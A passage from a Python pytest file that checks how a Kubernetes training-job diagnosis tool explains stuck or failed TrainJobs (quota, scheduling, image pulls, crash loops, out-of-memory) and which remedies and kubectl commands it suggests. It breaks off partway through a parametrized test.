"""Causes, each from a state of objects as a real cluster has them."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pytest
from structlog.testing import capture_logs

from tests.explain.samples import (
    CREATED,
    GPU,
    JOB,
    MADE,
    answer,
    condition,
    container,
    event,
    jobset,
    lost,
    node,
    pod,
    running,
    train_job,
    unscheduled,
    waiting,
)
from trainer.api.jobset_labels import JOBSET_UID
from trainer.explain import Cause, QueuePosition, Unread, Verdict, walk
from trainer.kube.objects import Object
from trainer.plugins.jobset.revision import SUSPEND

NO_GPU = (
    f"0/3 nodes are available: 3 Insufficient {GPU}. no new claims to deallocate, preemption: 0/3 nodes are available: "
    "3 Preemption is not helpful for scheduling."
)
EIGHT = {"containers": [{"name": "trainer", "resources": {"limits": {GPU: "8"}, "requests": {GPU: "8"}}}]}
SCALE = {"nodes": 2, "minNodes": 1, "maxNodes": 4, "selector": ""}
NOT_BY_THE_TRAIN_JOB: Object = {"annotations": {SUSPEND: "false"}}
QUEUED: Object = {"labels": {"kueue.x-k8s.io/queue-name": "team-a"}}


def refusal(message: str, kind: str = "Job") -> Object:
    """An event of the Job controller."""
    name, uid = ("demo-node-0", "uid-of-job") if kind == "Job" else ("demo", "uid-of-set")
    reason = "FailedCreate" if kind == "Job" else "JobCreationFailed"
    return event(kind, name, uid, reason, message)


def ended(code: int, reason: str = "Error", **fields: Any) -> Object:
    """A container that has ended."""
    return {"terminated": {"exitCode": code, "reason": reason, "startedAt": MADE, "finishedAt": MADE} | fields}


BACK_OFF = {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off 40s restarting failed container=trainer"}}
BESIDE = {
    "restartPolicy": "Never",
    "containers": [{"name": "trainer"}, {"name": "cache", "resources": {"requests": {"memory": "1Gi"}}}],
}
"""A pod with a container beside the one that trains; neither is started again."""


def failed_beside(name: str, end: Object, other: str) -> Object:
    """A pod in which one of the two has ended."""
    statuses = [
        {"name": name, "ready": False, "restartCount": 0, "state": end},
        {"name": other, "ready": True, "restartCount": 0, "state": {"running": {}}},
    ]
    return pod(phase="Running", spec=BESIDE, containerStatuses=statuses)


def deleted(index: int, *, end: str = "2026-01-01T01:00:10Z") -> Object:
    """A pod that runs, and has until then to end."""
    found = running(index)
    return found | {"metadata": found["metadata"] | {"deletionTimestamp": end, "deletionGracePeriodSeconds": 30}}


SUSPENDING = train_job(condition("Stopping", reason="SuspendingPods", message="node-0 has not ended yet"), suspend=True)
RESTARTED = jobset() | {
    "spec": jobset()["spec"] | {"failurePolicy": {"maxRestarts": 3}},
    "status": {"restarts": 1, "conditions": [condition("RestartingJobSet")]},
}
LIMITED = {"containers": [{"name": "trainer", "resources": {"limits": {"memory": "2Gi"}}}]}


def workload(*conditions: Object, **spec: Any) -> Object:
    return {
        "apiVersion": "kueue.x-k8s.io/v1beta1",
        "kind": "Workload",
        "metadata": {"name": "trainjob-demo-1a2b3", "namespace": "default"},
        "spec": {"queueName": "team-a"} | spec,
        "status": {"conditions": [*conditions]},
    }


PENDING = condition(
    "QuotaReserved",
    "False",
    "Pending",
    "couldn't assign flavors to pod set node: insufficient unused quota for nvidia.com/gpu in flavor a100, 8 more "
    "needed",
)


def gang(scheduler: str, **spec: Any) -> Object:
    version = {"coscheduling": "scheduling.x-k8s.io/v1alpha1", "volcano": "scheduling.volcano.sh/v1beta1"}[scheduler]
    metadata = {"name": "demo", "namespace": "default"}
    return {
        "apiVersion": version,
        "kind": "PodGroup",
        "metadata": metadata,
        "spec": spec,
        "status": {"phase": "Pending"},
    }


WITHOUT_RETRIES = jobset()
WITHOUT_RETRIES["spec"]["replicatedJobs"][0]["template"]["spec"]["backoffLimit"] = 0
MEMBER: Object = {"labels": {"scheduling.x-k8s.io/pod-group": "demo"}}
VOLCANO_MEMBER: Object = {"annotations": {"scheduling.k8s.io/group-name": "demo"}}


@dataclass
class Case:
    """What there is, and what is said about it."""

    reason: str
    message: str
    """A part of the sentence of the first cause."""
    remedy: str
    """A part of its remedy."""
    command: str
    """The beginning of the command."""
    job: Object = field(default_factory=train_job)
    objects: tuple[Object, ...] = ()
    detail: str = ""
    others: tuple[str, ...] = ()
    """Reasons of the other causes."""
    verdict: Verdict = Verdict.WAITING
    fields: dict[str, Any] = field(default_factory=dict)


CASES = {
    "deleted": Case(
        "Deleted",
        "waits for its finalizers: example.com/keep",
        "wait until its pods have ended",
        "kubectl describe trainjob demo",
        train_job(metadata={"deletionTimestamp": MADE, "finalizers": ["example.com/keep"]}),
    ),
    "managed-by-other": Case(
        "ManagedByOther",
        "spec.managedBy is kueue.x-k8s.io/multikueue",
        "ask who runs that controller",
        "kubectl describe trainjob demo",
        train_job(managedBy="kueue.x-k8s.io/multikueue"),
    ),
    "no-manager": Case(
        "NoManager",
        "no controller manager has handled it for 120 s",
        "start the manager",
        "kubectl get pods -A",
        train_job() | {"status": {}},
    ),
    "just-submitted": Case(
        "Submitted",
        "a moment ago",
        "wait a moment",
        "trainer get demo -w",
        train_job(metadata={"creationTimestamp": "2026-01-01T00:59:58Z"}) | {"status": {}},
    ),
    "released-manager": Case(
        "ImagePullBackOff",
        "1 pod cannot start",
        "correct the name of the image",
        "kubectl describe pod",
        train_job() | {"status": {}},
        (jobset(nodes=1), waiting("ImagePullBackOff", "Back-off pulling image")),
    ),
    "suspended-by-somebody": Case(
        "Suspended",
        "TrainJob demo is suspended by kubectl-patch at 2026-01-01T00:58:00Z",
        "trainer resume demo -n default",
        "kubectl get trainjob demo -o yaml --show-managed-fields",
        train_job(
            suspend=True,
            metadata={
                "managedFields": [
                    {"manager": "trainer", "time": "x", "fieldsV1": {"f:status": {}}},
                    {"manager": "kubectl-patch", "time": MADE, "fieldsV1": {"f:spec": {"f:suspend": {}}}},
                ]
            },
        ),
    ),
    "suspended-and-still-there": Case(
        "Suspended",
        "TrainJob demo is suspended",
        "trainer resume demo",
        "kubectl get",
        job=SUSPENDING,
        objects=(jobset(suspend=True), deleted(0)),
        others=("SuspendingPods",),
    ),
    "suspended-and-its-node-is-lost": Case(
        "Suspended",
        "TrainJob demo is suspended",
        "trainer resume demo",
        "kubectl get",
        job=SUSPENDING,
        objects=(jobset(suspend=True), lost(0)),
        others=("NodeNotReady",),
    ),
    "suspended-from-the-start": Case(
        "Suspended",
        "by spec.suspend, with which it was created",
        "trainer resume demo",
        "kubectl get trainjob demo",
        train_job(suspend=True),
    ),
    "queued": Case(
        "Queued",
        "waits in Kueue's queue team-a at position 3 (8 of all that share its quota); couldn't assign flavors",
        "wait until quota is free",
        "kubectl describe workload trainjob-demo-1a2b3",
        train_job(suspend=True, metadata=QUEUED),
        (workload(PENDING),),
        fields={"position": QueuePosition(2, 7)},
    ),
    "inactive-workload": Case(
        "WorkloadInactive",
        "is in Kueue's queue team-a; is inactive",
        "then activate it: trainer resume demo",
        "kubectl describe workload",
        train_job(suspend=True, metadata=QUEUED),
        (workload(PENDING, active=False),),
    ),
    "no-workload": Case(
        "Suspended",
        "Kueue has no Workload for it",
        "have Kueue checked",
        "kubectl get workloads,localqueues",
        train_job(suspend=True, metadata=QUEUED),
    ),
    "jobset-suspended": Case(
        "JobSetSuspended",
        "JobSet demo is suspended by kubectl-edit",
        "whoever suspended it resumes it",
        "kubectl get jobset demo",
        objects=(
            jobset(
                suspend=True,
                metadata=NOT_BY_THE_TRAIN_JOB
                | {
                    "managedFields": [
                        {"manager": "kubectl-edit", "time": MADE, "fieldsV1": {"f:spec": {"f:suspend": {}}}}
                    ]
                },
            ),
        ),
    ),
    "jobset-queued": Case(
        "Queued",
        "waits in Kueue's queue team-a",
        "wait until quota is free",
        "kubectl describe workload",
        objects=(jobset(suspend=True, metadata=QUEUED | NOT_BY_THE_TRAIN_JOB), workload(PENDING)),
    ),
    "just-resumed": Case(
        "Resuming",
        "TrainJob demo was resumed, and the manager has yet to resume JobSet demo",
        "see whether the manager runs",
        "trainer get demo -w -n default",
        objects=(jobset(suspend=True, metadata={"annotations": {SUSPEND: "true"}}),),
    ),
    "resumed-with-other-pods": Case(
        "Resuming",
        "TrainJob demo was resumed with other pods: its JobSet is made anew once pod a has ended",
        "a pod that does not end may be on a node that is lost",
        "kubectl get pods -o wide -l jobset.sigs.k8s.io/jobset-name=demo",
        train_job(CREATED | {"message": "Succeeded to create Jobs; JobSet is made anew once pod a has ended"}),
        objects=(jobset(suspend=True, metadata={"annotations": {SUSPEND: "true"}}),),
    ),
    "workloads-are-secret": Case(
        "Suspended",
        "TrainJob demo is suspended in Kueue's queue team-a, whose Workloads you may not read",
        "for the right to read Workloads",
        "kubectl get workloads,localqueues",
        train_job(suspend=True, metadata=QUEUED),
        fields={"unread": (Unread("workloads", "forbidden"),)},
    ),
    "no-jobset": Case("NoJobSet", "its JobSet is not there", "the manager makes it", "kubectl describe trainjob demo"),
    "no-jobset-controller": Case(
        "NoPods",
        "its JobSet is 120 s old",
        "have the JobSet controller checked",
        "kubectl get pods -n jobset-system",
        objects=(jobset() | {"status": {}},),
    ),
    "no-pods": Case(
        "NoPods",
        "there are no pods",
        "see the events of JobSet and Jobs",
        "kubectl describe jobset demo",
        objects=(jobset(),),
    ),
    "jobs-refused": Case(
        "JobCreationFailed",
        "Jobs cannot be created: JobSet demo",
        "ResourceQuota team",
        "kubectl describe resourcequota team",
        objects=(jobset(), refusal('jobs.batch "demo-node-0" is forbidden: exceeded quota: team', "JobSet")),
    ),
    "no-gpus": Case(
        "Unschedulable",
        f"no node that the pod may run on has {GPU}",
        f"have the device plugin for {GPU} installed",
        "kubectl describe nodes",
        objects=(jobset(nodes=1), unscheduled(NO_GPU, spec=EIGHT), node()),
        detail=f"1 pod cannot start: too little {GPU}: pod demo-node-0-0-abcde: 0/3 nodes are available",
    ),
    "too-few-gpus-on-a-node": Case(
        "Unschedulable",
        f"a pod asks for 8 of {GPU}, and the largest node that it may run on, b, has 4",
        f"ask for at most 4 of {GPU}",
        "kubectl describe nodes",
        objects=(jobset(nodes=1), unscheduled(NO_GPU, spec=EIGHT), node("a", gpu="2"), node("b", gpu="4")),
        detail="Insufficient",
    ),
    "gpus-are-in-use": Case(
        "Unschedulable",
        f"a node has enough {GPU}, which other pods use at present",
        "wait until other pods have ended",
        "kubectl describe nodes",
        objects=(jobset(nodes=1), unscheduled(NO_GPU, spec=EIGHT), node("a", gpu="8")),
        detail="Insufficient",
    ),
    "nodes-are-secret": Case(
        "Unschedulable",
        "Insufficient",
        "wait for room, or ask for less",
        "kubectl describe pod demo-node-0-0-abcde",
        objects=(jobset(nodes=1), unscheduled(NO_GPU, spec=EIGHT)),
        fields={"unread": (Unread("nodes", "forbidden"),)},
    ),
    "selector": Case(
        "Unschedulable",
        "the pod selects nodes by gpu in h100, and nodes have a100, l4",
        "select by values of gpu that exist",
        "kubectl describe nodes",
        objects=(
            jobset(nodes=1),
            unscheduled(
                "0/2 nodes are available: 2 node(s) didn't match Pod's node affinity/selector.",
                spec={"nodeSelector": {"gpu": "h100"}},
            ),
            node("a", labels={"gpu": "a100"}),
            node("b", labels={"gpu": "l4"}),
        ),
        detail="didn't match Pod's node affinity/selector",
    ),
    "taint": Case(
        "Unschedulable",
        f"{GPU}=present:NoSchedule",
        "tolerate them",
        "kubectl describe nodes",
        objects=(
            jobset(nodes=1),
            unscheduled(f"0/1 nodes are available: 1 node(s) had untolerated taint(s) {{{GPU}: present}}."),
            node(taints=[{"key": GPU, "value": "present", "effect": "NoSchedule"}]),
        ),
        detail="had untolerated taint",
    ),
    "no-scheduler": Case(
        "NoScheduler",
        "no scheduler called gangs has looked at it",
        "install the scheduler of this name",
        "kubectl get pods -A",
        objects=(jobset(nodes=1), pod(spec={"nodeName": None, "schedulerName": "gangs"})),
    ),
    "the-scheduler-is-given-time": Case(
        "Starting",
        "1 of 1 pods are on their way: 1 Pending, for at most 10 s",
        "wait",
        "kubectl describe pod",
        objects=(
            jobset(nodes=1),
            pod(metadata={"creationTimestamp": "2026-01-01T00:59:50Z"}, spec={"nodeName": None}),
        ),
    ),
    "gate": Case(
        "SchedulingGated",
        "Scheduling is blocked due to non-empty scheduling gates",
        "the gate is kueue.x-k8s.io/topology",
        "kubectl describe pod",
        objects=(
            jobset(nodes=1),
            unscheduled(
                "Scheduling is blocked due to non-empty scheduling gates",
                reason="SchedulingGated",
                spec={"schedulingGates": [{"name": "kueue.x-k8s.io/topology"}]},
            ),
        ),
    ),
    "claim-does-not-exist": Case(
        "Unschedulable",
        'persistentvolumeclaim "data" not found',
        "create the claim",
        "kubectl get pvc",
        objects=(
            jobset(nodes=1),
            unscheduled('0/1 nodes are available: persistentvolumeclaim "data" not found. not found'),
        ),
    ),
    "claim-is-not-bound": Case(
        "ProvisioningFailed",
        'claim data: storageclass.storage.k8s.io "fast" not found',
        "name a StorageClass that exists",
        "kubectl describe pvc data",
        objects=(
            jobset(nodes=1, volumes=[{"name": "v", "persistentVolumeClaim": {"claimName": "data"}}]),
            unscheduled("0/1 nodes are available: pod has unbound immediate PersistentVolumeClaims. not found"),
            event(
                "PersistentVolumeClaim",
                "data",
                "u",
                "ProvisioningFailed",
                'storageclass.storage.k8s.io "fast" not found',
            ),
        ),
        others=("Unschedulable",),
    ),
    "image": Case(
        "ImagePullBackOff",
        'container trainer: Back-off pulling image "nowhere/none:1"',
        "correct the name of the image",
        "kubectl describe pod demo-node-0-0-abcde",
        objects=(jobset(nodes=1), waiting("ImagePullBackOff", 'Back-off pulling image "nowhere/none:1"')),
    ),
    "image-name": Case(
        "InvalidImageName",
        "Failed to apply default image tag",
        "correct the name of the image",
        "kubectl describe pod",
        objects=(
            jobset(nodes=1),
            waiting("InvalidImageName", 'Failed to apply default image tag "A": couldn\'t parse image name "A"'),
        ),
    ),
    "secret": Case(
        "CreateContainerConfigError",
        'secret "credentials" not found',
        "create the Secret or ConfigMap",
        "kubectl describe pod",
        objects=(jobset(nodes=1), waiting("CreateContainerConfigError", 'secret "credentials" not found')),
    ),
    "mount": Case(
        "FailedMount",
        'configmap "settings" not found',
        "create the volume's Secret, ConfigMap or claim",
        "kubectl describe pod",
        objects=(
            jobset(nodes=1),
            waiting("ContainerCreating", ""),
            event(
                "Pod",
                "demo-node-0-0-abcde",
                "uid-of-pod-0",
                "FailedMount",
                'MountVolume.SetUp failed for volume "v" : configmap "settings" not found',
            ),
        ),
    ),
    "crash-loop": Case(
        "CrashLoopBackOff",
        "container trainer exited with code 1 in pod demo-node-0-0-abcde, and is started again with growing pauses "
        "(restart 4)",
        "its log says why",
        "kubectl logs demo-node-0-0-abcde -c trainer --previous -n default",
        objects=(
            jobset(nodes=1),
            pod(phase="Running", containerStatuses=container(BACK_OFF, last=ended(1), restarts=4)),
        ),
        detail="ValueError: no data",
        fields={"logs": {("demo-node-0-0-abcde", "trainer"): ("Traceback", "ValueError: no data")}},
    ),
    "out-of-memory": Case(
        "OOMKilled",
        "exited with code 137 (OOMKilled) in pod demo-node-0-0-abcde, whose limit of memory is 2Gi; so "
        "do those of 1 more",
        "raise spec.trainer.resourcesPerNode.limits[memory], or of a pod that is no node, such as an MPI launcher, the "
        "limit in the runtime; or use a smaller batch",
        "kubectl logs demo-node-0-0-abcde -c trainer --previous",
        objects=(
            jobset(ready=1),
            *(
                pod(
                    index,
                    phase="Running",
                    spec=LIMITED,
                    containerStatuses=container({"running": {}}, last=ended(137, "OOMKilled"), restarts=1, ready=True),
                )
                for index in range(2)
            ),
        ),
    ),
    "ended-beside-another": Case(
        "ContainerFailed",
        "container trainer exited with code 1 in pod demo-node-0-0-abcde, and is not started again, while cache still "
        "runs in the pod",
        "the cause is not known: no error stands at the end of its log, whose other lines may say why; and let cache "
        "end with the training: in the runtime make it a native sidecar",
        "kubectl logs demo-node-0-0-abcde -c trainer -n default",
        objects=(jobset(nodes=1), failed_beside("trainer", ended(1), "cache")),
    ),
    "killed-child-beside-another": Case(
        "ContainerFailed",
        "container trainer exited with code 1 in pod demo-node-0-0-abcde, and is not started again, while cache still",
        "a process was killed (SIGKILL), most likely by the kernel for memory: raise its limit of memory or request",
        "kubectl logs demo-node-0-0-abcde -c trainer -n default",
        objects=(jobset(nodes=1), failed_beside("trainer", ended(1), "cache")),
        detail="RuntimeError: DataLoader worker (pid 4) is killed by signal: Killed.",
        fields={
            "logs": {
                ("demo-node-0-0-abcde", "trainer"): (
                    "RuntimeError: DataLoader worker (pid 4) is killed by signal: Killed.",
                )
            }
        },
    ),
    "ended-and-held": Case(
        "EndedAndHeld",
        "1 pod has ended, and cache keeps it: pod demo-node-0-0-abcde: container trainer has ended with 0, "
        "and cache still runs",
        "let cache end with the training: in the runtime make it a native sidecar, which is an init container with "
        "restartPolicy: Always, or give it a way to end",
        "kubectl describe pod demo-node-0-0-abcde",
        objects=(jobset(nodes=1), JOB, failed_beside("trainer", ended(0), "cache")),
    ),
    "held-by-a-native-sidecar": Case(
        "EndedAndHeld",
        "container trainer has ended with 0, and cache still runs",
        "wait: the kubelet asks cache to end, and kills it after 600 s",
        "kubectl describe pod demo-node-0-0-abcde",
        objects=(
            jobset(nodes=1),
            JOB,
            pod(
                phase="Running",
                spec={
                    "restartPolicy": "Never",
                    "terminationGracePeriodSeconds": 600,
                    "initContainers": [{"name": "cache", "restartPolicy": "Always"}],
                },
                initContainerStatuses=[{"name": "cache", "state": {"running": {}}}],
                containerStatuses=container(ended(0)),
            ),
        ),
    ),
    "stopping": Case(
        "StoppingPods",
        "node-0, node-1 are stopping since 2026-01-01T00:59:40Z: pod demo-node-0-0-abcde was deleted; by whom is not",
        "wait: node-0, node-1 have until 2026-01-01T01:00:10Z to end",
        "kubectl get pods -o wide -l jobset.sigs.k8s.io/jobset-name=demo -n default",
        objects=(jobset(ready=1), deleted(0), deleted(1)),
    ),
    "stopping-as-the-manager-has-seen-it": Case(
        "StoppingPods",
        "node-0 is stopping since 2026-01-01T00:59:40Z: pod b was deleted, and not by its Job",
        "wait: node-0 has until 2026-01-01T01:00:10Z to end",
        "kubectl get pods",
        objects=(jobset(ready=1), deleted(0), running(1)),
        job=train_job(
            condition(
                "Stopping",
                reason="StoppingPods",
                message="node-0, node-2 are stopping since 2026-01-01T00:59:40Z: pod b was deleted, and not by its Job",
            )
        ),
    ),
    "stopping-for-too-long": Case(
        "StoppingPods",
        "pod demo-node-0-0-abcde was deleted",
        "pod demo-node-0-0-abcde should have ended at 2026-01-01T00:59:00Z: see whether node a answers",
        "kubectl get pods",
        objects=(jobset(ready=1), deleted(0, end="2026-01-01T00:59:00Z"), running(1)),
    ),
    "restarting-after-an-eviction": Case(
        "RestartingJobSet",
        "restart 1 (1 failure of 3): pod demo-node-0-0-abcde was evicted (EvictionByEvictionAPI)",
        "wait: it starts again by itself; the program is not the cause",
        "trainer logs demo --previous",
        objects=(
            RESTARTED,
            pod(
                phase="Failed",
                conditions=[condition("DisruptionTarget", reason="EvictionByEvictionAPI")],
                containerStatuses=container(ended(1)),
            ),
        ),
    ),
    "out-of-memory-without-a-limit": Case(
        "OOMKilled",
        "which has no limit of memory of its own, and is not started again, while trainer still runs in the pod",
        "the node ran out of memory: request as much as container cache uses in the runtime",
        "kubectl logs demo-node-0-0-abcde -c cache -n default",
        objects=(jobset(nodes=1), failed_beside("cache", ended(137, "OOMKilled"), "trainer")),
    ),
    "probe": Case(
        "Unhealthy",
        "container trainer of pod demo-node-0-0-abcde is not ready: Readiness probe failed: HTTP probe failed with",
        "correct the probe",
        "kubectl describe pod demo-node-0-0-abcde",
        objects=(
            jobset(nodes=1),
            running(ready=False),
            event(
                "Pod",
                "demo-node-0-0-abcde",
                "uid-of-pod-0",
                "Unhealthy",
                "Readiness probe failed: HTTP probe failed with statuscode: 500",
            ),
        ),
    ),
    "restart-of-the-jobset": Case(
        "RestartingJobSet",
        "restart 1 (1 failure of 3)",
        "see why the last attempt failed",
        "trainer logs demo --previous",
        objects=(RESTARTED,),
    ),
    "gang-of-coscheduling": Case(
        "Unschedulable",
        "at least 2 pods cannot start",
        "wait for room",
        "kubectl describe pod",
        objects=(
            jobset(nodes=3),
            unscheduled("0/1 nodes are available: 1 Insufficient cpu.", 0, metadata=MEMBER),
            unscheduled(
                "PodGroup default/demo gets rejected due to Pod demo-node-0-0-abcde is unschedulable even after "
                "PostFilter",
                1,
                metadata=MEMBER,
            ),
            unscheduled("rejected due to timeout after waiting 60s at plugin Coscheduling", 2, metadata=MEMBER),
            gang("coscheduling", minMember=3),
        ),
        others=("GangNotScheduled",),
    ),
    "gang-of-volcano": Case(
        "Unschedulable",
        "pod group is not ready",
        "",
        "kubectl describe pod",
        objects=(
            jobset(nodes=3),
            *(
                unscheduled(
                    "3/3 tasks in gang unschedulable: pod group is not ready, 3 Pending, 3 minAvailable; Pending: 1 "
                    "Unschedulable, 2 Schedulable. Origin reason is demo-node-0-2-abcde: 0/1 nodes are unavailable: 1 "
                    "Insufficient cpu.",
                    index,
                    metadata=VOLCANO_MEMBER,
                )
                for index in range(3)
            ),
            gang("volcano", minMember=3),
        ),
        others=("GangNotScheduled",),
    ),
    "rendezvous": Case(
        "ImagePullBackOff",
        "1 pod cannot start",
        "correct the name of the image",
        "kubectl describe pod demo-node-0-1-abcde",
        objects=(jobset(), running(0), waiting("ImagePullBackOff", "Back-off pulling image", 1)),
        others=("NodesMissing",),
    ),
    "rendezvous-with-a-slow-node": Case(
        "NodesMissing",
        "1 of 2 nodes are up, and wait for node 1 (ContainerCreating)",
        "see why the others are not up",
        "kubectl describe pod demo-node-0-1-abcde",
        objects=(jobset(), running(0), waiting("ContainerCreating", "", 1)),
    ),
    "rendezvous-with-a-pod-that-is-not-there": Case(
        "NodesMissing",
        "1 of 2 nodes are up, and wait for 1 without a pod",
        "see why the others are not up",
        "kubectl describe trainjob demo",
        objects=(jobset(), running(0)),
    ),
    "stalled": Case(
        "NoProgress",
        "no progress since 00:30, at step 40 of 100 (reported at 2026-01-01T00:58:00Z)",
        "to start again, trainer suspend demo -n default and trainer resume demo -n default",
        "trainer logs demo --all --tail 20",
        train_job(condition("Stalled", reason="NoProgress", message="no progress since 00:30, at step 40 of 100"))
        | {
            "status": {
                "state": "Stalled",
                "conditions": [
                    CREATED,
                    condition("Stalled", reason="NoProgress", message="no progress since 00:30, at step 40 of 100"),
                ],
                "trainerStatus": {
                    "currentStep": 40,
                    "totalSteps": 100,
                    "progressPercentage": 40,
                    "trainMetrics": {"loss": "0.5"},
                    "lastUpdatedTime": "2026-01-01T00:30:00Z",
                },
            }
        },
        (jobset(nodes=1, ready=1), running()),
        detail="last report: 40 %, step 40 of 100, loss 0.5, at 2026-01-01T00:30:00Z",
    ),
    "jobset-of-another": Case(
        "NoJobSet",
        "its JobSet is not there",
        "the manager makes it",
        "kubectl describe trainjob demo",
        objects=(jobset(metadata={"ownerReferences": []}), running(0), running(1)),
    ),
    "starting": Case(
        "Starting",
        "2 of 2 pods are on their way: 2 ContainerCreating, for at most 120 s",
        "pulling a large image takes minutes",
        "kubectl describe pod demo-node-0-0-abcde",
        objects=(jobset(), waiting("ContainerCreating", "", 0), waiting("ContainerCreating", "", 1)),
    ),
    "a-pod-has-failed": Case(
        "Starting",
        "1 of 2 pods failed, and no other one takes that place yet; 1 of 2 pods are on their way: 1 ContainerCreating",
        "wait a moment: its Job fails with it",
        "kubectl describe pod demo-node-0-0-abcde",
        objects=(WITHOUT_RETRIES, pod(phase="Failed"), waiting("ContainerCreating", "", 1)),
    ),
    "failed": Case(
        "FailedJobs",
        "node-0: KeyError: 3",
        "its log says why: correct the program, its arguments or its data; a TrainJob that has failed stays so: "
        "trainer delete demo -n default, then submit it again",
        "trainer logs demo --node node-0 -n default",
        train_job(
            condition(
                "Failed",
                reason="FailedJobs",
                message="node-0: KeyError: 3\npod demo-node-0-0-abcde: container trainer exited with code 1; jobset "
                "failed due to one or more job failures (first failed job: demo-node-0)\nlast lines of its log:\n"
                "Traceback\n    ^\nKeyError: 3",
            ),
            state="Failed",
        ),
        detail="pod demo-node-0-0-abcde: container trainer exited with code 1; jobset failed due to one or more job "
        "failures (first failed job: demo-node-0)\nTraceback\n    ^\nKeyError: 3",
        verdict=Verdict.FAILED,
    ),
    "nothing-may-be-read": Case(
        "Unschedulable",
        "1 pod cannot start: pod demo-node-0-0-abcde: 0/3 nodes",
        "wait for room, or ask for less",
        "kubectl describe trainjob demo",
        train_job(
            condition(
                "Pending", reason="Unschedulable", message="1 pod cannot start: pod demo-node-0-0-abcde: 0/3 nodes"
            ),
            state="Pending",
        ),
        fields={"unread": (Unread("jobsets", "forbidden"), Unread("pods", "forbidden"))},
    ),
}


@pytest.mark.parametrize("case", [pytest.param(case, id=name) for name, case in CASES.items()])
def test_causes(case: Case) -> None:
    """The first cause is what to act on, with its remedy and the command that shows more."""
    found = answer(case.job, *case.objects, **case.fields)

    first, *others = found.causes
    assert first.reason == case.reason
    assert case.message in first.message
    assert case.remedy in first.remedy
    assert first.command.startswith(case.command)
    assert case.detail in "\n".join(first.details)
    assert tuple(each.reason for each in others) == case.others
    assert found.verdict == case.verdict
    assert found.unread == case.fields.get("unread", ())


@pytest.mark.parametrize(
    ("pod", "remedy"),
    [
        pytest.param(deleted(0), "wait: node-0 has until 2026-01-01T01:00:10Z to end", id="in its grace period"),
        pytest.param(deleted(0, end="2026-01-01T00:59:00Z"), "see whether node a answers", id="too late"),
        pytest.param(running(0), "wait a moment", id="not deleted yet"),
    ],
)
def test_pods_of_a_suspended_training(pod: Object, remedy: str) -> None:
    """Until when they may take to end, or what holds them."""
    _, stops = answer(SUSPENDING, jobset(suspend=True), pod).causes
    assert remedy in stops.remedy


@pytest.mark.parametrize(
    ("reason", "message", "remedy", "command"),
    [
        pytest.param(
            "JobsBuildFailed",
            'Failed to build Jobs: spec.runtimeRef.name: Not found: "plain": there is no ClusterTrainingRuntime of '
            "this name; create it, or change spec.runtimeRef",
            "name a runtime that exists",
            "trainer runtimes",
            id="no-runtime",
        ),
        pytest.param(
            "JobsBuildFailed",
            "spec.trainer.numNodes: Invalid value: 0",
            "correct the field that the message names",
            "kubectl describe trainjob demo",
            id="bad-field",
        ),
        pytest.param(
            "JobsCreationFailed",
            "JobSet demo exists and does not belong to this TrainJob",
            "delete the object that is in the way",
            "kubectl describe trainjob demo",
            id="foreign-object",
        ),
        pytest.param(
            "JobsCreationFailed",
            'jobsets.jobset.x-k8s.io "demo" is forbidden: exceeded quota: team, requested: '
            "count/jobsets.jobset.x-k8s.io=1, used: 1, limited: 1",
            "have the ResourceQuota team raised",
            "kubectl describe resourcequota team",
            id="quota-of-objects",
        ),
        pytest.param(
            "JobsCreationFailed",
            'admission webhook "vjobset.kb.io" denied the request: spec.volumeClaimPolicies[1].template[0].spec: '
            "Invalid value: spec does not match existing PVC output-demo in namespace default",
            "take another name, since the claim output-demo of an earlier TrainJob of this name was kept",
            "kubectl describe pvc output-demo",
            id="claim-of-an-earlier-trainjob",
        ),
        pytest.param(
            "JobsCreationFailed",
            "the JobSet is not allowed here",
            "correct what the message names; the manager tries again by itself",
            "kubectl describe trainjob demo",
            id="unknown-rule",
        ),
    ],
)
def test_jobs_that_cannot_be_made(reason: str, message: str, remedy: str, command: str) -> None:
    """What the condition Created says is the cause, with what helps."""
    (cause,) = answer(train_job(condition("Created", "False", reason, message))).causes
    assert (cause.reason, cause.message.endswith(message)) == (reason, True)
    assert remedy in cause.remedy
    assert cause.command.startswith(command)


@pytest.mark.parametrize(
    ("message", "remedy", "command"),
    [
        pytest.param(
            'pods "demo-node-0-0-" is forbidden: error looking up service account default/nobody: '
            'serviceaccount "nobody" not found',
            "kubectl create serviceaccount nobody -n default",
            "kubectl get serviceaccounts",
            id="service-account",
        ),
        pytest.param(
            'pods "demo-node-0-0-abcde" is forbidden: exceeded quota: team, requested: requests.nvidia.com/gpu=8, '
            "used: requests.nvidia.com/gpu=8, limited: requests.nvidia.com/gpu=8",
            "have the ResourceQuota team raised",
            "kubectl describe resourcequota team",
            id="quota",
        ),
        pytest.param(
            'pods "demo-node-0-0-abcde" is forbidden: failed quota: team: must specify limits.cpu for: trainer; '
            "limits.memory for: model-initializer,trainer",
            "state limits.cpu, limits.memory in resourcesPerNode, or in the runtime for pods that are no nodes "
            "(container trainer); limits.memory in resources of the container model-initializer in the runtime, which "
            "the",
            "kubectl describe resourcequota team",
            id="quota-without-requests",
        ),
        pytest.param(
            'pods "demo-node-0-0-abcde" is forbidden: violates PodSecurity "restricted:latest": '
            'allowPrivilegeEscalation != false (containers "flux-installer", "trainer" must set '
            "securityContext.allowPrivilegeEscalation=false), unrestricted capabilities (container "
            '"flux-installer" must set securityContext.capabilities.drop=["ALL"]), runAsNonRoot != true (pod or '
            'container "trainer" must set securityContext.runAsNonRoot=true), seccompProfile (pod or container '
            '"trainer" must set securityContext.seccompProfile.type to "RuntimeDefault" or "Localhost")',
            "set the securityContext that restricted:latest asks for (container flux-installer: "
            "allowPrivilegeEscalation, capabilities.drop; container trainer: allowPrivilegeEscalation, runAsNonRoot, "
            "seccompProfile.type), in the",
            "kubectl get namespace default --show-labels",
            id="pod-security",
        ),
        pytest.param(
            'admission webhook "policy.example.com" denied the request: images must come from us',
            "change what the policy behind policy.example.com refuses",
            "kubectl get validatingwebhookconfigurations",
            id="webhook-denies",
        ),
        pytest.param(
            'Internal error occurred: failed calling webhook "policy.example.com": failed to call webhook: Post '
            '"https://policy.default.svc:443/?timeout=10s": dial tcp: connection refused',
            "have the server of the webhook policy.example.com repaired",
            "kubectl get validatingwebhookconfigurations",
            id="webhook-is-down",
        ),
        pytest.param(
            'pods "demo-node-0-0-abcde" is forbidden: no PriorityClass with name urgent was found',
            "name a PriorityClass that exists",
            "kubectl get priorityclasses",
            id="priority-class",
        ),
        pytest.param(
            'pods "demo-node-0-0-abcde" is forbidden: pod rejected: RuntimeClass "nvidia" not found',
            "name a RuntimeClass that exists",
